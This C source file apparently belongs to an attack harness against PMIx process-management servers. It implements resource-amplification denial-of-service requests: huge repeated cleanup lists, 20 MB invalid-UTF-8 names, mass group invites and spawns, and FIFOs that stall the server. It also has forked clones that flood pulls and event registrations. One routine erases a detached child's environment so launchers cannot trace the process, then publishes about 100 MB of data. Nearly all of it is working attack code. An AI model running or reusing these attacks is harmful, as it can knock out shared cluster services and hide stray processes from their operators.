/* Attacks by requests that a server could turn into many times what they bring: lists that repeat a short element, one
 * text for each of many applications, and the limits of one connection on many of them. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attacks.h"

/* Applications of a spawn, process sets of each job, and changes of one variable. */
#define APPS 1000
#define SETS 3000
#define CHANGES 60000
/* Ranks of a job with that many sets. */
#define RANKS 65000
/* Guests of an invitation. */
#define GUESTS 8192

static pmix_status_t spawned_status(pmix_info_t *job, size_t njob, pmix_app_t *apps, size_t napps)
{
    pmix_nspace_t nspace;
    PMIx_Spawn(job, njob, apps, napps, nspace);
    return PMIX_ERROR;
}

/* A spawn that ends before a process is started: there is no such program. */
static pmix_app_t app_without_program(int ranks)
{
    static char *words[] = {"/no/such/program", NULL};
    return (pmix_app_t){.cmd = words[0], .argv = words, .maxprocs = ranks};
}

/* Text that repeats a short piece. */
static char *repeated(const char *piece, size_t times)
{
    size_t length = strlen(piece);
    char *all = malloc(length * times + 1);
    for (size_t at = 0; at < times; at++)
        memcpy(all + at * length, piece, length);
    all[length * times] = '\0';
    return all;
}

/* Has clones with connections of their own do something once each, and keep it until all is over. */
static void in_clones(void (*each)(unsigned clone))
{
    for (unsigned clone = 0; next == 1 && clone < CLONES; clone++)
        if (fork() == 0) {
            PMIx_Init(NULL, NULL, 0);
            each(clone);
            while (!is_over())
                usleep(100000);
            _exit(0);
        }
    usleep(10000);
}

static void pull_much(unsigned clone)
{
    (void)clone;
    for (unsigned at = 0; at < 8192; at++)
        if (PMIx_IOF_pull(&pair[0], 1, NULL, 0, PMIX_FWD_STDOUT_CHANNEL, printed, NULL, NULL) < 0)
            break;
}

static void hear_many_codes(unsigned clone)
{
    static pmix_status_t codes[8192];
    for (int at = 0; at < 8192; at++)
        codes[at] = -3000000 - (int)clone * 8192 - at;
    PMIx_Register_event_handler(codes, 8192, NULL, 0, handled, NULL, NULL);
}

int leaves_behind(void)
{
    int came[2];
    char byte = 0;
    if (pipe(came) != 0)
        return 1;
    if (fork() == 0) {
        setsid();
        PMIx_Init(NULL, NULL, 0);
        /* Launchers know by that whose it is. */
        extern char **environ;
        for (char **variable = environ; *variable != NULL; variable++)
            memset(*variable, 'x', strlen(*variable));
        byte = write(came[1], &byte, 1) != 1;
        sleep(1);
        pmix_status_t status = PMIX_SUCCESS;
        for (unsigned at = 0; at < 100 && status == PMIX_SUCCESS; at++) {
            char name[64];
            snprintf(name, sizeof name, "left%d.%u", getpid(), at);
            pmix_info_t info = of_text(name, text(1 << 20));
            status = PMIx_Publish(&info, 1);
        }
        _exit(byte);
    }
    return read(came[0], &byte, 1) == 1 ? PMIx_Finalize(NULL, 0) : 1;
}

bool multiplied_request(const char *kind, pmix_status_t *status)
{
    *status = PMIX_ERROR;
    /* Jobs that leave processes behind, which publish when their job is over. */
    if (IS("left-behind"))
        return spawn_more("leaver", 1), true;
    if (IS("clean-up-lists")) {
        static char *paths;
        if (paths == NULL)
            paths = repeated("/a,", 9 << 20);
        pmix_info_t info = of_text(PMIX_REGISTER_CLEANUP, paths);
        return PMIx_Job_control(&me, 1, &info, 1, NULL, NULL), true;
    }
    /* Names that are no UTF-8, so that each byte becomes three where somebody mends them. */
    if (IS("odd-names")) {
        static char *name;
        if (name == NULL)
            name = repeated("\xff", 20 << 20);
        char *names[] = {name, NULL};
        pmix_info_t wait = of_number(PMIX_WAIT, 0);
        return *status = PMIx_Lookup_nb(names, &wait, 1, found, NULL), true;
    }
    if (IS("guests")) {
        static pmix_proc_t guests[GUESTS];
        char name[64];
        for (unsigned at = 0; next == 1 && at < GUESTS; at++)
            PMIX_LOAD_PROCID(&guests[at], "x", at);
        snprintf(name, sizeof name, "name%u", next);
        return *status = PMIx_Group_invite_nb(name, guests, GUESTS, NULL, 0, told, NULL), true;
    }
    if (IS("prefixes")) {
        pmix_app_t apps[APPS];
        for (unsigned at = 0; at < APPS; at++)
            apps[at] = app_without_program(1);
        pmix_info_t prefix = of_text(PMIX_PREFIX, text(300 << 10));
        return *status = spawned_status(&prefix, 1, apps, APPS), true;
    }
    if (IS("spawned-sets")) {
        static pmix_info_t sets[SETS];
        static char names[SETS][16];
        for (unsigned at = 0; next == 1 && at < SETS; at++) {
            snprintf(names[at], sizeof names[at], "set%u", at);
            sets[at] = of_text(PMIX_PSET_NAME, names[at]);
        }
        pmix_app_t app = app_without_program(RANKS);
        app.info = sets;
        app.ninfo = SETS;
        return *status = spawned_status(NULL, 0, &app, 1), true;
    }
    if (IS("variables")) {
        static pmix_info_t changes[CHANGES];
        for (unsigned at = 0; next == 1 && at < CHANGES; at++) {
            PMIX_LOAD_KEY(changes[at].key, PMIX_APPEND_ENVAR);
            changes[at].value.type = PMIX_ENVAR;
            changes[at].value.data.envar = (pmix_envar_t){.envar = "LONG", .value = text(40), .separator = ':'};
        }
        pmix_app_t app = app_without_program(1);
        return *status = spawned_status(changes, CHANGES, &app, 1), true;
    }
    /* Neither a program nor a list of hosts: who opens it waits for a writer. */
    if (IS("fifos")) {
        static char path[4200];
        if (next == 1) {
            snprintf(path, sizeof path, "%s.fifo-%u", over, me.rank);
            mkfifo(path, 0755);
        }
        pmix_app_t app = app_without_program(1);
        pmix_info_t hosts = of_text(PMIX_HOSTFILE, path);
        if (next % 2 == 0)
            app.cmd = path;
        return *status = spawned_status(&hosts, next % 2, &app, 1), true;
    }
    if (IS("clones-pulls"))
        return in_clones(pull_much), true;
    if (IS("clones-codes"))
        return in_clones(hear_many_codes), true;
    return false;
}
